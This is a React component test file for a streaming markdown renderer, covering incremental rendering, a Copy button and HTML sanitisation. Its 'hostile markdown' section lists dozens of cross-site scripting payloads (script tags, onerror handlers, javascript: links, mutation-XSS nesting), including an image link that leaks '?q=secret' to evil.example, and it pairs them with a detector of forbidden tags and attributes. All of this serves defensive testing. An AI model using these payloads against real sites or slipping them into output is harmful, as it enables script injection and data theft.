// @vitest-environment jsdom
import { act, cleanup, render } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { StrictMode } from 'react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { MarkdownView } from './markdown-view.tsx';
import { sanitise } from './sanitise.ts';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const answer = [
  '# Title\n\nSome *text* with a [link](https://a.example).\n\n',
  '- one\n- two\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n\nThe end, see [ref].\n\n[ref]: https://ref.example\n',
].join('');

describe('MarkdownView', () => {
  it('ends with the same page whether the text came at once or by the character [LC-016]', () => {
    const whole = render(<MarkdownView text={answer} live={false} />).container.innerHTML;
    const growing = render(<MarkdownView text="" live />);
    for (let end = 1; end <= answer.length; end++) growing.rerender(<MarkdownView text={answer.slice(0, end)} live />);
    growing.rerender(<MarkdownView text={answer} live={false} />);
    expect(growing.container.innerHTML).toBe(whole);
    expect(whole).toContain('href="https://ref.example/"');
  });

  it('is whole under StrictMode too', () => {
    const { container } = render(
      <StrictMode>
        <MarkdownView text={answer} live />
      </StrictMode>,
    );
    expect(container.querySelector('pre')?.textContent).toContain('const a = 1;\n\nconst b = 2;');
    expect(container.querySelectorAll('li')).toHaveLength(2);
  });

  it('leaves finished blocks alone while the answer grows [LC-016]', () => {
    const text = 'First.\n\nSecond.\n\nThird';
    const { container, rerender } = render(<MarkdownView text={text} live />);
    const first = container.querySelector('p');
    rerender(<MarkdownView text={`${text} grows.\n\nFourth`} live />);
    expect(container.querySelector('p')).toBe(first);
    expect(container.textContent).toContain('Fourth');
  });

  it('lets an open fence grow inside one text node, and never shows its closing line [LC-016]', () => {
    const { container, rerender } = render(<MarkdownView text={'```js\nlet a'} live />);
    const node = container.querySelector('pre code')?.firstChild;
    for (const text of ['```js\nlet a = 1;\n', '```js\nlet a = 1;\n``', '```js\nlet a = 1;\n```']) {
      rerender(<MarkdownView text={text} live />);
      expect(container.querySelector('pre code')?.firstChild).toBe(node);
      expect(node?.textContent).toBe('let a = 1;\n');
    }
    rerender(<MarkdownView text={'```js\nlet a = 1;\n```\nafter'} live />);
    expect(container.querySelector('pre')?.textContent).toBe('let a = 1;\n');
    expect(container.textContent).toContain('after');
  });

  it('shows a long open block in full, the newest part as plain text', () => {
    const items = Array.from({ length: 400 }, (_, n) => `- item number ${n} of this list\n`).join('');
    const { container, rerender } = render(<MarkdownView text={items.slice(0, 5000)} live />);
    rerender(<MarkdownView text={items.slice(0, 5200)} live />);
    expect(container.querySelectorAll('li').length).toBeGreaterThan(100);
    expect(container.textContent?.replace(/\s|-/g, '')).toBe(items.slice(0, 5200).replace(/\s|-/g, ''));
  });

  it('hands every finished block to enrichment once, and the live one never', () => {
    const undo = vi.fn();
    const enrich = vi.fn(() => undo);
    const { rerender, unmount } = render(<MarkdownView text={'One.\n\nTwo'} live enrich={enrich} />);
    expect(enrich).toHaveBeenCalledTimes(1);
    rerender(<MarkdownView text={'One.\n\nTwo and more'} live enrich={enrich} />);
    expect(enrich).toHaveBeenCalledTimes(1);
    rerender(<MarkdownView text={'One.\n\nTwo and more'} live={false} enrich={enrich} />);
    expect(enrich).toHaveBeenCalledTimes(2);
    unmount();
    expect(undo).toHaveBeenCalledTimes(2);
  });

  it('resolves a reference in a finished block when its definition arrives', () => {
    const { container, rerender } = render(<MarkdownView text={'See [it].\n\nMore.\n\n'} live />);
    expect(container.querySelector('a')).toBeNull();
    rerender(<MarkdownView text={'See [it].\n\nMore.\n\n[it]: https://it.example\n\nEnd'} live />);
    expect(container.querySelector('a')?.href).toBe('https://it.example/');
  });
});

describe('the Copy button', () => {
  const code = '```js\nlet a = "<b>";\n```\n';

  beforeEach(() => {
    vi.useRealTimers();
  });

  it('copies the code by keyboard and says so [CP-5]', async () => {
    const user = userEvent.setup();
    const { container } = render(<MarkdownView text={code} live={false} />);
    const button = container.querySelector('button');
    act(() => button?.focus());
    await user.keyboard('{Enter}');
    expect(await navigator.clipboard.readText()).toBe('let a = "<b>";\n');
    expect(button?.textContent).toBe('Copied');
    expect(button?.getAttribute('aria-live')).toBe('polite');
  });

  it('selects the code where there is no clipboard [CP-5]', async () => {
    const user = userEvent.setup();
    const { container } = render(<MarkdownView text={code} live={false} />);
    vi.spyOn(navigator.clipboard, 'writeText').mockRejectedValue(new Error('denied'));
    await user.click(container.querySelector('button') as HTMLButtonElement);
    expect(getSelection()?.toString()).toBe('let a = "<b>";\n');
    expect(container.querySelector('button')?.textContent).toBe('Press Ctrl+C');
  });
});

describe('hostile markdown', () => {
  const corpus = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">a</a>',
    '<form action=https://evil.example><input name=body><button>send</button></form>',
    '<div id=root name=body class=x style="position:fixed">a</div>',
    '<base href=https://evil.example>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=prefetch href=https://evil.example>',
    '<style>@import "https://evil.example"</style>',
    '<video poster=https://evil.example/x src=https://evil.example/y autoplay>',
    '<details open ontoggle=alert(1)>a</details>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](vbscript:x)',
    '[a](file:///etc/passwd)',
    '[a](smb://evil.example/x)',
    '[a](ms-msdt:/id)',
    '[a](//evil.example)',
    '[a](https://a.example" onmouseover="alert(1))',
    '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
    '<javascript:alert(1)>',
    '![a](https://evil.example/x.png?q=secret)',
    '![a][r]\n\n[r]: https://evil.example/x.png',
    '![a](data:image/svg+xml,<svg onload=alert(1)>)',
    '![" onerror="alert(1)](data:image/png;base64,AAAA)',
    '![a](data:image/png;base64,AAAA" onerror="alert(1))',
    '# <img src=x onerror=alert(1)>',
    '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    '`</code><script>alert(1)</script>`',
    '- <b><i>\n  - <img src=x onerror=alert(1)>',
    '> <img src=x onerror=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '[__proto__]\n\n[__proto__]: https://a.example',
    '[constructor][toString]',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ];
  const allowed = new Set(
    'a,blockquote,br,button,code,del,div,em,h3,h4,h5,h6,hr,img,li,ol,p,pre,span,strong,table,tbody,td,th,thead,tr,ul'.split(
      ',',
    ),
  );

  function harm(root: Element): string[] {
    const found: string[] = [];
    for (const element of root.querySelectorAll('*')) {
      if (!allowed.has(element.localName)) found.push(`<${element.localName}>`);
      for (const { name, value } of element.attributes) {
        if (/^on|^(id|name|class|style|srcset|srcdoc|action|ping|poster|background|formaction)$/.test(name))
          found.push(name);
        if (name === 'href' && !/^(https?|mailto):/.test(value)) found.push(`href ${value}`);
        if (name === 'src' && !value.startsWith('data:image/')) found.push(`src ${value}`);
      }
      if (element.localName === 'a' && element.getAttribute('rel') !== 'noopener noreferrer') found.push('rel');
    }
    return found;
  }

  for (const text of corpus) {
    it(`stays harmless, live and finished: ${text.slice(0, 60).replaceAll('\n', '⏎')} [L9]`, () => {
      const live = render(<MarkdownView text={text} live />);
      expect(harm(live.container)).toEqual([]);
      const finished = render(<MarkdownView text={text} live={false} />);
      expect(harm(finished.container)).toEqual([]);
      const shown = finished.container.querySelector('img')?.alt ?? finished.container.textContent;
      expect(shown?.trim()).not.toBe('');
    });
  }

  it('does not depend on the renderer: the last gate drops what it would let through [L9]', () => {
    const gate = document.createElement('div');
    gate.append(
      sanitise(
        '<p id="root" class="x" style="color:red" onclick="alert(1)">a<script>alert(1)</script></p>' +
          '<img src="https://evil.example/x.png"><img src="data:image/svg+xml;base64,AAAA"><form><input></form>' +
          '<a href="javascript:alert(1)" rel="noopener noreferrer">a</a><iframe src="/"></iframe><svg onload="alert(1)"></svg>',
      ),
    );
    expect(harm(gate)).toEqual([]);
  });
});
